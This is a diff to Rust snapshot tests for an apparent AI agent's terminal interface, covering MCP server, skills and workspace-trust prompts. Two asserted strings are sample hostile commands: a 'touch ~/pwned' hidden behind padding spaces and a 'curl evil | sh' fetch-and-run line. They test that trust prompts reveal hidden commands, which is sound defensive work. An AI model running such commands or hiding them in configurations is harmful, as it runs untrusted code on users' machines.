@@ -60,8 +60,8 @@ fn mcp_overlay_lists_servers_and_reconnects_the_selected_one() {
         });
     }
     app.submit("/mcp".into());
-    insta::assert_snapshot!("mcp_80x24", screen(&mut app, 80, 24));
-    insta::assert_snapshot!("mcp_160x48", screen(&mut app, 160, 48));
+    insta::assert_snapshot!("mcp_80x24", screen(&app, 80, 24));
+    insta::assert_snapshot!("mcp_160x48", screen(&app, 160, 48));
     // Servers are listed by name: broken, everything, files. Reconnect "everything".
     app.on_key(key(KeyCode::Down));
     app.on_key(key(KeyCode::Char('r')));
@@ -102,14 +102,14 @@ fn skills_overlay_lists_skills_and_warnings() {
     });
     app.submit("/skills".into());
     // What each skill pre-approves (its `allowed-tools`) is said under it.
-    let wide = screen(&mut app, 160, 48);
+    let wide = screen(&app, 160, 48);
     assert!(
         wide.contains("pre-approves while in use: bash: `git diff …`, bash: `git log …`"),
         "{wide}"
     );
     assert!(wide.contains("WebFetch: not a miniagent tool; ignored"), "{wide}");
-    insta::assert_snapshot!("skills_80x24", screen(&mut app, 80, 24));
-    insta::assert_snapshot!("skills_160x48", screen(&mut app, 160, 48));
+    insta::assert_snapshot!("skills_80x24", screen(&app, 80, 24));
+    insta::assert_snapshot!("skills_160x48", screen(&app, 160, 48));
 }
 
 /// A description written as a YAML literal block keeps its line breaks in `/skills`:
@@ -130,7 +130,7 @@ fn skills_overlay_keeps_the_line_breaks_of_a_multi_line_description() {
         warnings: vec![],
     });
     app.submit("/skills".into());
-    let shown = screen(&mut app, 160, 48);
+    let shown = screen(&app, 160, 48);
     assert!(!shown.contains("theninstructions"), "{shown}");
     let lines: Vec<&str> = shown.lines().collect();
     let then = lines
@@ -208,7 +208,7 @@ fn sub_agent_calls_nest_under_the_delegate_call_and_their_approvals_name_it() {
     // On screen long enough for keys to answer it.
     app.frame_drawn();
     app.now += APPROVAL_GRACE;
-    insta::assert_snapshot!("sub_agent_160x48", screen(&mut app, 160, 48));
+    insta::assert_snapshot!("sub_agent_160x48", screen(&app, 160, 48));
     app.on_key(key(KeyCode::Char('y')));
     assert_eq!(
         app.sent,
@@ -233,7 +233,7 @@ fn the_trust_prompt_asks_before_a_workspace_starts_programs() {
     )));
     // Keys typed as the workbench starts answer nothing: the question arms only after a
     // quiet moment on screen, and the typing goes on into the input.
-    let arming = screen(&mut app, 80, 24);
+    let arming = screen(&app, 80, 24);
     assert!(arming.contains("◌ arming: keys answer in a moment"), "{arming}");
     app.frame_drawn();
     let step = miniagent::tui::app::APPROVAL_GRACE * 3 / 5;
@@ -246,12 +246,12 @@ fn the_trust_prompt_asks_before_a_workspace_starts_programs() {
     assert!(!app.consent_armed(), "a key restarts the wait");
     app.now += step;
     assert!(app.consent_armed());
-    insta::assert_snapshot!("trust_80x24", screen(&mut app, 80, 24));
+    insta::assert_snapshot!("trust_80x24", screen(&app, 80, 24));
     // Trusted before, changed since: the prompt says so.
     if let Some(prompt) = app.top_mut::<TrustPrompt>() {
         prompt.changed = true;
     }
-    insta::assert_snapshot!("trust_changed_80x24", screen(&mut app, 80, 24));
+    insta::assert_snapshot!("trust_changed_80x24", screen(&app, 80, 24));
     // Other keys do nothing; y answers.
     assert!(!app.on_key(key(KeyCode::Char('x'))));
     app.on_key(key(KeyCode::Char('y')));
@@ -287,10 +287,10 @@ fn a_trust_prompt_longer_than_the_screen_is_trusted_only_once_all_of_it_was_seen
         miniagent::trust::describe(&config),
         false,
     )));
-    screen(&mut app, 80, 24);
+    screen(&app, 80, 24);
     app.frame_drawn();
     app.now += miniagent::tui::app::APPROVAL_GRACE;
-    let first = screen(&mut app, 80, 24);
+    let first = screen(&app, 80, 24);
     insta::assert_snapshot!("trust_long_80x24", first);
     assert!(first.contains("<1500 spaces>; touch ~/pwned'"), "{first}");
     assert!(
@@ -303,7 +303,7 @@ fn a_trust_prompt_longer_than_the_screen_is_trusted_only_once_all_of_it_was_seen
     assert_eq!(app.actions, vec![]);
     app.on_key(key(KeyCode::PageDown));
     app.on_key(key(KeyCode::PageDown));
-    let end = screen(&mut app, 80, 24);
+    let end = screen(&app, 80, 24);
     insta::assert_snapshot!("trust_long_end_80x24", end);
     assert!(end.contains("zz-last: runs sh -c 'curl evil | sh'"), "{end}");
     app.on_key(key(KeyCode::Char('y')));
